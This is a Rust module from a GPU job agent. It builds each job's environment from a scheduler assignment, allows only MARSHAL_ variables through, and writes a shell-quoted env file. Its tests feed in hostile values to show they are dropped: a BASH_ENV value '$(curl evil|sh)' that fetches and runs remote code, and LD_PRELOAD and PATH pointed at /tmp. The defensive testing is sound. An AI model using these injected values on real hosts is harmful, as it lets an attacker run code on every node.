//! The environment of a job's processes, from its assignment.
//!
//! The scheduler's `env` comes first; the agent then sets the variables it is the
//! authority on from the assignment itself, so they hold whatever the server sent:
//!
//! | variable | value |
//! |---|---|
//! | `CUDA_VISIBLE_DEVICES` | the assigned GPU indices, ascending, comma-separated; empty for a CPU-only worker (hides every GPU) |
//! | `MARSHAL_JOB_ID` | the scheduler's job id |
//! | `MARSHAL_WORKER` | this worker's rank in the gang (0-based) |
//! | `MARSHAL_ATTEMPT` | the placement number (a retry gets a new one) |
//! | `MARSHAL_NODE` | this node's inventory name |
//!
//! From the scheduler, as sent: `MARSHAL_JOB_NAME`, `MARSHAL_WORLD_SIZE` (workers in the
//! gang), `MARSHAL_MASTER_NODE` (worker 0's node: the rendezvous host where inventory
//! names resolve), `MARSHAL_GPU_MILLI` (a GPU share), `MARSHAL_MIG_PROFILE` and
//! `MARSHAL_EXPECTED_RUNTIME_S`. For a MIG slice the runner then replaces
//! `CUDA_VISIBLE_DEVICES` with the claimed instance's `MIG-…` UUID and sets
//! `MARSHAL_MIG_UUID` (see `mig`).
//!
//! Only `MARSHAL_*` variables are taken from the scheduler (it sends no others): a
//! scheduler that could set `BASH_ENV`, `LD_PRELOAD`, `PATH` or `PYTHONPATH` could run
//! code of its choice on every node, where it is meant only to choose placements. Any
//! other name is dropped and logged.

use std::collections::BTreeMap;

use marshal_scheduler::service::pb;

/// The prefix of the variables the scheduler may set.
pub const SCHEDULER_PREFIX: &str = "MARSHAL_";

pub fn job_env(a: &pb::Assignment, node: &str) -> BTreeMap<String, String> {
    let (mut env, refused): (BTreeMap<String, String>, BTreeMap<String, String>) = a
        .env
        .iter()
        .map(|(k, v)| (k.clone(), v.clone()))
        .partition(|(k, _)| k.starts_with(SCHEDULER_PREFIX));
    if !refused.is_empty() {
        tracing::warn!(
            job = a.job_id,
            names = ?refused.keys().collect::<Vec<_>>(),
            "the scheduler sent environment variables outside MARSHAL_*: dropped"
        );
    }
    let mut gpus: Vec<u32> = a.gpus.iter().map(|g| g.index).collect();
    gpus.sort_unstable();
    gpus.dedup();
    let list: Vec<String> = gpus.iter().map(u32::to_string).collect();
    env.insert("CUDA_VISIBLE_DEVICES".into(), list.join(","));
    env.insert("MARSHAL_JOB_ID".into(), a.job_id.to_string());
    env.insert("MARSHAL_WORKER".into(), a.worker.to_string());
    env.insert("MARSHAL_ATTEMPT".into(), a.attempt.to_string());
    env.insert("MARSHAL_NODE".into(), node.to_string());
    env
}

/// The job's expected run time at full speed, when the scheduler knows it.
pub fn expected_runtime_s(env: &BTreeMap<String, String>) -> Option<f64> {
    env.get("MARSHAL_EXPECTED_RUNTIME_S")
        .and_then(|v| v.parse::<f64>().ok())
        .filter(|s| s.is_finite() && *s > 0.0)
}

/// `KEY='value'` lines, sorted, single-quoted for `sh` (`set -a; . FILE; set +a`).
pub fn env_file_text(env: &BTreeMap<String, String>) -> String {
    let mut out = String::new();
    for (k, v) in env {
        // Names that are not shell identifiers cannot be assigned; the scheduler never
        // sends any, but the file must stay sourceable whatever arrives.
        if k.is_empty()
            || !k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            || k.starts_with(|c: char| c.is_ascii_digit())
        {
            continue;
        }
        out.push_str(k);
        out.push_str("='");
        out.push_str(&v.replace('\'', r"'\''"));
        out.push_str("'\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn assignment() -> pb::Assignment {
        pb::Assignment {
            job_id: 17,
            action: pb::AssignmentAction::Start as i32,
            worker: 1,
            gpus: [5, 2, 2]
                .iter()
                .map(|&index| pb::GpuSlot {
                    index,
                    milli: 1000,
                    ..Default::default()
                })
                .collect(),
            env: [
                ("MARSHAL_WORLD_SIZE", "2"),
                ("MARSHAL_JOB_NAME", "it's"),
                ("MARSHAL_MASTER_NODE", "n-0"),
                ("CUDA_VISIBLE_DEVICES", "9"),
                ("MARSHAL_EXPECTED_RUNTIME_S", "12.5"),
                ("bad-name", "x"),
            ]
            .into_iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
            reason: String::new(),
            attempt: 3,
            confirm: false,
        }
    }

    #[test]
    fn the_assignment_decides_devices_rank_and_attempt() {
        let env = job_env(&assignment(), "n-1");
        assert_eq!(env["CUDA_VISIBLE_DEVICES"], "2,5");
        assert_eq!(env["MARSHAL_JOB_ID"], "17");
        assert_eq!(env["MARSHAL_WORKER"], "1");
        assert_eq!(env["MARSHAL_ATTEMPT"], "3");
        assert_eq!(env["MARSHAL_NODE"], "n-1");
        assert_eq!(env["MARSHAL_WORLD_SIZE"], "2");
        assert_eq!(env["MARSHAL_MASTER_NODE"], "n-0");
        assert_eq!(expected_runtime_s(&env), Some(12.5));
        // A CPU-only worker sees no GPU.
        let mut cpu = assignment();
        cpu.gpus.clear();
        cpu.env.clear();
        let env = job_env(&cpu, "n-1");
        assert_eq!(env["CUDA_VISIBLE_DEVICES"], "");
        assert_eq!(expected_runtime_s(&env), None);
    }

    #[test]
    fn only_marshal_variables_come_from_the_scheduler() {
        let mut a = assignment();
        for (k, v) in [
            ("BASH_ENV", "$(curl evil|sh)"),
            ("LD_PRELOAD", "/tmp/x.so"),
            ("PATH", "/tmp"),
            ("MARSHAL_EXTRA", "kept"),
        ] {
            a.env.insert(k.into(), v.into());
        }
        let env = job_env(&a, "n-1");
        for dropped in ["BASH_ENV", "LD_PRELOAD", "PATH", "bad-name"] {
            assert!(!env.contains_key(dropped), "{dropped}");
        }
        assert_eq!(env["MARSHAL_EXTRA"], "kept");
        assert!(
            env.keys()
                .all(|k| k.starts_with(SCHEDULER_PREFIX) || k == "CUDA_VISIBLE_DEVICES")
        );
    }

    #[test]
    fn the_env_file_is_sourceable() {
        let text = env_file_text(&job_env(&assignment(), "n-1"));
        assert!(text.contains("MARSHAL_JOB_NAME='it'\\''s'\n"), "{text}");
        assert!(text.contains("CUDA_VISIBLE_DEVICES='2,5'\n"));
        assert!(!text.contains("bad-name"));
        let lines: Vec<&str> = text.lines().collect();
        let mut sorted = lines.clone();
        sorted.sort();
        assert_eq!(lines, sorted);
        // And a POSIX shell reads the quoted value back as it was.
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("job.env");
        std::fs::write(&file, &text).unwrap();
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(r#". "$1" && printf %s "$MARSHAL_JOB_NAME""#)
            .arg("sh")
            .arg(&file)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        assert_eq!(String::from_utf8_lossy(&out.stdout), "it's");
    }
}
